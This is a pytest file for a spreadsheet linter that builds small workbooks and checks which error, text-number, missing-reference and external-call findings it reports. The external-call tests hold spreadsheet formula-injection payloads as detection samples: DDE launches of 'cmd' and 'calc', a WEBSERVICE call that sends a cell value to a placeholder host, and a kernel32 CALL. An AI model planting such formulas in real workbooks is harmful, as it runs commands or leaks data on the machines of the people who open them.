"""Rules on hand-made little workbooks: told where they should be, and nowhere else."""

import zipfile

import pytest
import xlsxwriter

from tests.helpers.mutations import cells_of
from xlcity.audit.lint.run import lint
from xlcity.xlsx.address import ranges_text
from xlcity.xlsx.package import Package


@pytest.fixture
def found(tmp_path):
    """Return what writes a workbook of one sheet and lints it: {(rule, cell)}."""

    def write(change):
        path = tmp_path / "book.xlsx"
        book = xlsxwriter.Workbook(str(path))
        sheet = book.add_worksheet("S")
        change(sheet, book)
        book.close()
        return cells_of(lint(path).findings)

    return write


def numbers(sheet, column="B", first=2, last=13, style=None):
    for row in range(first, last + 1):
        sheet.write(f"{column}{row}", row * 1.5, style)


def test_e01_tells_copies_of_a_formula_once(found, tmp_path):
    def change(sheet, book):
        for row in range(2, 9):
            sheet.write(f"A{row}", row - 2 if row < 5 else 0)
            sheet.write_formula(
                f"B{row}", f"=1/A{row}", None, "#DIV/0!" if row != 3 else 1
            )

    found(change)
    (told,) = [f for f in lint(tmp_path / "book.xlsx").findings if f.rule == "E01"]
    assert (told.cell, told.region, told.message) == (
        "B2",
        "B2, B4:B8",
        "#DIV/0!. (5 more cells)",
    )


def test_e01_names_the_first_cell_of_a_chain(found):
    def change(sheet, book):
        sheet.write("B8", 0)
        sheet.write_formula("A1", "=1/B8", None, "#DIV/0!")
        sheet.write_formula("A2", "=A1+1", None, "#DIV/0!")
        sheet.write_formula("A3", "=A2+1", None, "#DIV/0!")
        sheet.write_formula("A4", "=IFERROR(A3,0)+B9", None, 0)
        sheet.write("B9", 3)

    assert {cell for rule, cell in found(change) if rule == "E01"} == {"A1"}


@pytest.mark.parametrize(
    ("text", "told"),
    [
        ("12.5", True),
        ("１２．５", True),
        ("1,234", True),
        ("\u300012", True),
        ("12 ", True),
        ("35%", True),
        ("3.2万", True),
        ("01", False),
        ("n/a", False),
        ("—", False),
        ("缺", False),
    ],
)
def test_w02_numbers_as_text(found, text, told):
    def change(sheet, book):
        numbers(sheet)
        sheet.write_string("B7", text)

    assert (("W02", "B7") in found(change)) is told


@pytest.mark.parametrize(
    "formula", ["=#REF!+B2", "=_xldudf_SCORE(B2)", "=[1]!b_info(B2)"]
)
def test_w09_what_a_formula_reads_is_gone(found, formula):
    def change(sheet, book):
        numbers(sheet)
        sheet.write_formula("D2", formula, None, 1)

    assert ("W09", "D2") in found(change)


@pytest.mark.parametrize(
    "formula",
    [
        '=IF(B2="","",B2)',
        "=VLOOKUP(3,A2:B13,2)",
        "=NOW()-B2",
        "=INDEX(B2:B13,3)",
        "=[1]!ABOVE_MEAN(B2:B13)",
    ],
)
def test_sound_formulas_are_told_nothing(found, formula):
    def change(sheet, book):
        numbers(sheet)
        sheet.write_formula("D2", formula, None, 1)

    assert found(change) == set()


def saved(folder, part, replaced):
    """Write book.xlsx again as on.xlsx with some of a part replaced."""
    parts = dict(Package.read(folder / "book.xlsx").parts)
    for old, new in replaced.items():
        assert old in parts[part]
        parts[part] = parts[part].replace(old, new)
    with zipfile.ZipFile(folder / "on.xlsx", "w") as archive:
        for name, data in parts.items():
            archive.writestr(name, data)


@pytest.mark.parametrize(
    ("formulas", "wrong"),
    [
        ({"C1": ("=IF(B1>2,B1,NA())", "#N/A")}, set()),
        ({"C1": ("=B1/B9", "#DIV/0!")}, set()),  # nothing is filled
        (
            {"C1": ("=B1/B9", "#DIV/0!"), "C2": ("=MATCH(3,B1:B9,0)", "#N/A")},
            {("E01", "C2")},
        ),
        ({"C1": ("=SQRT(-1)", "#NUM!"), "C2": ("=C1+1", "#NUM!")}, {("E01", "C1")}),
        (
            {"C1": ("=1/0", "#DIV/0!"), "C2": ("=10^999", "#NUM!")},
            set(),
        ),  # a test of errors
        ({"C1": ("=#REF!", "#REF!"), "C2": ("=C1+1", "#REF!")}, {("E01", "C1")}),
        # C3 lacks a reference of its own, which is the same finding, not W09.
        (
            {"C1": ("=#REF!", "#REF!"), "C3": ("=C1+#REF!", "#REF!")},
            {("E01", "C1"), ("E01", "C3")},
        ),
    ],
)
def test_errors_that_are_meant(found, formulas, wrong):
    def change(sheet, book):
        for cell, (formula, value) in formulas.items():
            sheet.write_formula(cell, formula, None, value)

    assert found(change) == wrong


def test_pasted_errors_do_not_make_the_errors_of_formulas_meant(tmp_path, found):
    def change(sheet, book):
        sheet.write_column("B1", [1, 77, 3, 78, 5])
        sheet.write_formula("D1", "=MATCH(9,B5:B6,0)", None, "#N/A")

    assert ("E01", "D1") in found(change)
    saved(
        tmp_path,
        "xl/worksheets/sheet1.xml",
        {
            f'<c r="{cell}"><v>{number}</v>'.encode(): (
                f'<c r="{cell}" t="e"><v>{error}</v>'
            ).encode()
            for cell, number, error in (("B2", 77, "#N/A"), ("B4", 78, "#DIV/0!"))
        },
    )
    findings = lint(tmp_path / "on.xlsx").findings
    assert ("E01", "D1") in {(f.rule, f.cell) for f in findings}


def test_ranges_are_listed_as_few_rectangles():
    places = [(2, 2), (2, 3), (3, 2), (3, 3), (5, 5), (6, 5)]
    assert ranges_text(places) == "B2:C3, E5:E6"


def outside(formula, written="x"):
    """Return a change that writes a formula to C5 of a book with numbers and a sheet `Other`."""

    def change(sheet, book):
        numbers(sheet)
        book.add_worksheet("Other")
        book.define_name("Known", "=S!$B$2")
        book.define_name("Other!Local", "=S!$B$3")
        sheet.add_table("F1:G4", {"name": "Sales"})
        sheet.write_formula("C5", formula, None, written)

    return change


@pytest.mark.parametrize(
    "formula",
    [
        "=cmd|'/c calc'!A0",
        "='cmd'|'/c calc'!A0+1",
        "=Excel|Sheet1!R1C1",
        '=_xlfn.WEBSERVICE("http://host.invalid/"&B2)',
        '=WEBSERVICE("http://host.invalid/")',
        '=RTD("server","","topic")',
        '=IFERROR(DDE("soffice","file","A1"),0)',
        '=_xlfn.IMAGE("http://host.invalid/x.png")',
        '=CALL("kernel32","Sleep","JJ",1)',
    ],
)
def test_w33_asks_what_a_formula_calls_outside(found, formula):
    assert found(outside(formula)) == {("W33", "C5")}


@pytest.mark.parametrize(
    "formula",
    [
        "=\"cmd|'/c calc'!A0\"",
        '=IF(B2>1,"WEBSERVICE(x)","a|b!c")',
        '=HYPERLINK("http://host.invalid/")',
        '="a|b"&Other!A1',
    ],
)
def test_w33_leaves_texts_alone(found, formula):
    assert found(outside(formula)) == set()


@pytest.mark.parametrize(
    "formula",
    [
        "=IFERROR(Gone!B2,0)",
        "=SUM('No such'!B2:B9)",
        "=IFERROR(Unknown,0)",
        "=B2*Local",
        "=IFERROR(#REF!,0)",
    ],
)
def test_w09_names_what_the_workbook_does_not_have(found, formula):
    assert found(outside(formula)) == {("W09", "C5")}


@pytest.mark.parametrize(
    "formula",
    [
        "=Known*2",
        "=KNOWN*other!B2",
        "=SUM(Sales[Column1])",
        "=SUM(Sales)",
        "=Other!Local",
        "=SUM(S:Other!B2)",
        "=_xlfn.LET(_xlpm.x,B2,_xlpm.x+1)",
        "=IF(TRUE,1,FALSE)",
        '=INDIRECT("Gone!B2")',
    ],
)
def test_w09_knows_sheets_names_tables_and_variables(found, formula):
    assert found(outside(formula)) == set()


@pytest.mark.parametrize(
    ("formula", "value", "is_found"),
    [
        ("=MOD(5,0)", "#DIV/0!", True),
        ("=#VALUE!", "#VALUE!", True),
        ("=#N/A", "#N/A", False),
        ("=1/0", "#DIV/0!", False),
        ("=SUM(Other!A1:A3)/COUNT(Other!A1:A3)", "#DIV/0!", False),
    ],
)
def test_e01_of_formulas_that_read_nothing(found, formula, value, is_found):
    told = found(outside(formula, value))
    assert told == ({("E01", "C5")} if is_found else set())
